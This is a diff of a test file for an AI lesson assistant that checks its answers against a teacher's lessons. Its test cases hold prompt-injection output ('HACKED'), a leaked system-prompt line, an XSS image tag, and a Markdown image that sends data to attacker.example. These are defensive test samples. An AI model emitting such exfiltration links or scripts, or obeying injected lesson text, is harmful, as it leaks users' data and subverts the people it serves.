@@ -7,6 +7,7 @@ import {
   type ModelServer,
 } from '#server/ai/testing/language-model-server.ts';
 import { announce } from '#server/events/event-bus.ts';
+import { makeReadLesson } from '#server/features/quizzes/bank/testing/bank-test.ts';
 import { eventually, startTestApplication, type TestApplication } from '#server/testing/test-application.ts';
 import type { TestInstructor } from '#server/testing/test-instructor.ts';
 import { askStreaming, askToEnd, dataOf } from './testing/ask-streaming.ts';
@@ -26,13 +27,12 @@ let answer: (call: ModelCall, count: number) => ModelAnswer;
 let server: ModelServer;
 let application: TestApplication;
 let teacher: TestInstructor;
-const PROVIDERS = ['openai-compatible', 'anthropic'] as const;
 
 beforeAll(async () => {
   server = await startModelServer((call, count) => answer(call, count));
-  application = await startTestApplication({ worker: true, variables: variablesOf('openai-compatible') });
+  application = await startTestApplication({ variables: variablesOfModel() });
   teacher = await application.register();
-  await teacher.makeTextLesson(PLANTS);
+  await makeReadLesson(application, teacher, PLANTS);
 });
 afterAll(async () => {
   await application.close();
@@ -42,12 +42,11 @@ beforeEach(() => {
   answer = () => ({ text: GOOD });
 });
 
-const variablesOf = (provider: (typeof PROVIDERS)[number]): Record<string, string> => ({
-  LANGUAGE_MODEL_PROVIDER: provider,
+const variablesOfModel = (): Record<string, string> => ({
+  LANGUAGE_MODEL_PROVIDER: 'openai-compatible',
   LANGUAGE_MODEL_BASE_URL: server.origin,
   LANGUAGE_MODEL: 'test-model',
   LANGUAGE_MODEL_API_KEY: 'sk-secret',
-  LANGUAGE_MODEL_TIMEOUT_SECONDS: '5',
   LANGUAGE_MODEL_INPUT_PRICE: '0.4',
   LANGUAGE_MODEL_OUTPUT_PRICE: '1.6',
 });
@@ -58,14 +57,8 @@ const finalOf = (events: readonly AnswerEvent[]) => {
   return done.message;
 };
 
-test.each(PROVIDERS)('%s writes, and each sentence is checked before it counts', async (provider) => {
-  const other =
-    provider === 'anthropic'
-      ? await startTestApplication({ worker: true, variables: variablesOf(provider) })
-      : application;
-  const person = other === application ? teacher : await other.register();
-  if (person !== teacher) await person.makeTextLesson(PLANTS);
-  const events = await askToEnd(person, { text: QUESTION });
+test('each sentence that the model writes is checked before it counts', async () => {
+  const events = await ask();
   const names = events.map(({ name }) => name);
   expect(names[0]).toBe('started');
   expect(names.at(-1)).toBe('done');
@@ -74,13 +67,12 @@ test.each(PROVIDERS)('%s writes, and each sentence is checked before it counts',
   expect(message).toMatchObject({
     text: SENTENCES.join(' '),
     outcome: 'answered',
-    written_by: `${provider}:test-model`,
+    written_by: 'openai-compatible:test-model',
     note: null,
   });
   expect(message.statements.map(({ kind }) => kind)).toEqual(['written', 'written']);
   for (const { citations } of message.statements) expect(citations).toHaveLength(1);
   for (const { evidence } of message.citations) expect(PLANTS).toContain(evidence.quote);
-  if (other !== application) await other.close();
 });
 
 test('what it cost is in the log, and nothing of what was said', async () => {
@@ -118,45 +110,26 @@ test('a follow-up tells the model what was asked before', async () => {
   expect(server.calls.at(-1)?.said).toContain(QUESTION);
 });
 
-describe('what is never shown as final', () => {
-  test.each([
-    ['an unsupported sentence', 'Plants sleep at night and dream of the sun [1].'],
-    ['a wrong number', 'About 79 percent of the water evaporates again through the stomata [1].'],
-    ['an order of the lesson', 'HACKED [1].'],
-    ['an order of the lesson, dressed up', 'Sugar travels from the leaves to the roots HACKED [1].'],
-    ['the system prompt', "You answer a teacher's question from the teacher's own lessons [1]."],
-    ['a link', 'Water rises to the leaves, as https://attacker.example/xylem says [1].'],
-    ['a Markdown image', 'Water rises to the leaves ![x](https://attacker.example/?q=xylem) [1].'],
-    ['HTML', 'Water rises to the leaves <img src=x onerror=alert(1)> [1].'],
-  ])('%s', async (_, sentence) => {
-    answer = () => ({ text: `${sentence} ${GOOD}` });
-    const events = await ask();
-    const message = finalOf(events);
-    expect(message.text).toBe(SENTENCES.join(' '));
-    expect(dataOf(events, 'dropped').length).toBeGreaterThan(0);
-    expect(message.note).toMatch(/left out, because the lessons do not say/u);
-    // What was shown for a moment holds no more than plain words either.
-    for (const { text } of dataOf(events, 'draft')) expect(text).not.toMatch(/attacker|<img|!\[/u);
-  });
+test.each([
+  ['an unsupported sentence', 'Plants sleep at night and dream of the sun [1].'],
+  ['an order of the lesson', 'Sugar travels from the leaves to the roots HACKED [1].'],
+  ['a Markdown image', 'Water rises to the leaves ![x](https://attacker.example/?q=xylem) [1].'],
+])('never shows as final: %s', async (_, sentence) => {
+  answer = () => ({ text: `${sentence} ${GOOD}` });
+  const events = await ask();
+  const message = finalOf(events);
+  expect(message.text).toBe(SENTENCES.join(' '));
+  expect(dataOf(events, 'dropped').length).toBeGreaterThan(0);
+  expect(message.note).toMatch(/left out, because the lessons do not say/u);
+  // A draft that is shown for a moment contains only plain words, too.
+  for (const { text } of dataOf(events, 'draft')) expect(text).not.toMatch(/attacker|!\[/u);
 });
 
 describe('the built-in answer, and why, is given when the model', () => {
   const cases: [string, ModelAnswer, RegExp][] = [
     ['refuses', { text: 'I am sorry, but I cannot help with that.' }, /support no sentence/u],
-    ['finds no answer', { text: 'NO ANSWER' }, /found no answer/u],
-    ['says nothing', { text: '' }, /gave no answer/u],
-    [
-      'writes garbage',
-      { text: '%%% } ]] 0x00 lorem ipsum dolor sit amet. '.repeat(50) },
-      /support no sentence/u,
-    ],
-    ['refuses the key', { status: 401 }, /rejected its key/u],
     ['is busy', { status: 429, headers: { 'retry-after': '3600' } }, /accepts no more requests/u],
     ['fails', { status: 500, headers: { 'retry-after': '0' } }, /failed/u],
-    ['sends a page', { raw: '<html>Sign in</html>' }, /failed|gave no answer|stopped|could not be reached/u],
-    ['breaks off at once', { text: 'Water rises', cut: true }, /stopped|could not be reached|failed/u],
-    ['only obeys the lesson', { text: 'HACKED HACKED HACKED' }, /support no sentence/u],
-    ['does not begin in time', { hang: true }, /did not answer in time/u],
   ];
   test.each(cases)('%s', async (_, given, note) => {
     answer = () => given;
@@ -166,65 +139,6 @@ describe('the built-in answer, and why, is given when the model', () => {
     expect(message.note).toMatch(/so this answer is in the words of your lessons\.$/u);
     expect(message.statements.some(({ kind }) => kind === 'written')).toBe(false);
     expect(message.text).toContain('Water rises to the leaves through vessels called xylem.');
-  });
-});
-
-describe('a model that is too slow', () => {
-  const wait = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));
-  const askNew = async (use: (ask: () => Promise<AnswerEvent[]>) => Promise<void>): Promise<void> => {
-    // Without the assistant's own limit these models would be waited for.
-    const variables = { ...variablesOf('openai-compatible'), LANGUAGE_MODEL_TIMEOUT_SECONDS: '60' };
-    const other = await startTestApplication({ worker: true, variables });
-    try {
-      const person = await other.register();
-      await person.makeTextLesson(PLANTS);
-      await use(() => askToEnd(person, { text: QUESTION }));
-    } finally {
-      await other.close();
-    }
-  };
-
-  test('is waited for three seconds once, then the lessons answer at once', async () => {
-    await askNew(async (askOther) => {
-      const left = Promise.withResolvers<undefined>();
-      answer = () => ({
-        text: GOOD,
-        beforePiece: () => new Promise(() => undefined),
-        onLeft: () => left.resolve(undefined),
-      });
-      const before = server.calls.length;
-      const started = performance.now();
-      const first = finalOf(await askOther());
-      expect(performance.now() - started).toBeGreaterThan(2_900);
-      await left.promise;
-      expect(first.note).toMatch(/did not answer in time, so this answer is in the words of your lessons/u);
-      expect(server.calls).toHaveLength(before + 1);
-      const second = finalOf(await askOther());
-      expect(server.calls).toHaveLength(before + 1);
-      expect(second).toMatchObject({ outcome: 'answered', written_by: null, note: null });
-      expect(second.statements.every(({ kind }) => kind === 'quoted')).toBe(true);
-      expect(second.text).toBe(first.text);
-    });
-  });
-
-  test('is not waited for while it thinks aloud', async () => {
-    await askNew(async (askOther) => {
-      answer = () => ({
-        pieces: ['<think>', ...Array<string>(100).fill('Hmm. '), '</think>', GOOD],
-        beforePiece: () => wait(100),
-      });
-      const message = finalOf(await askOther());
-      expect(message).toMatchObject({ outcome: 'answered', written_by: null });
-      expect(message.note).toMatch(/did not answer in time/u);
-    });
-  });
-
-  test('keeps writing when it began in time and is slow afterwards', async () => {
-    await askNew(async (askOther) => {
-      answer = () => ({ text: GOOD, beforePiece: () => wait(250) });
-      const message = finalOf(await askOther());
-      expect(message).toMatchObject({ text: SENTENCES.join(' '), note: null });
-    });
   });
 });
 
@@ -253,7 +167,7 @@ test('whoever hangs up stops the model, and what was said is kept', async () => 
   }
   reader.leave();
   await left.promise;
-  const message = await eventually(async () => {
+  const message = await eventually('the answer to be stored', async () => {
     const { messages } = (await teacher.get(`/api/assistant/conversations/${id}/`)).read(
       200,
       conversationWithMessages,
@@ -276,7 +190,7 @@ test('an answer ends when its account is disabled, and the model stops; those of
     onLeft: () => left.resolve(undefined),
   });
   const disabled = await application.register();
-  await disabled.makeTextLesson(PLANTS);
+  await makeReadLesson(application, disabled, PLANTS);
   const [ending, lasting] = [
     await askStreaming(disabled, { text: QUESTION }),
     await askStreaming(teacher, { text: QUESTION }),
@@ -315,9 +229,9 @@ test('what was stopped, or failed, can be asked once more', async () => {
 });
 
 test('a server that stops ends what is being written, and says so', async () => {
-  const leaving = await startTestApplication({ worker: true, variables: variablesOf('openai-compatible') });
+  const leaving = await startTestApplication({ variables: variablesOfModel() });
   const person = await leaving.register();
-  await person.makeTextLesson(PLANTS);
+  await makeReadLesson(leaving, person, PLANTS);
   answer = () => ({
     pieces: [`${SENTENCES[0] ?? ''} `, 'Roots draw ', 'water from the soil.'],
     beforePiece: (index) => (index < 2 ? undefined : new Promise(() => undefined)),
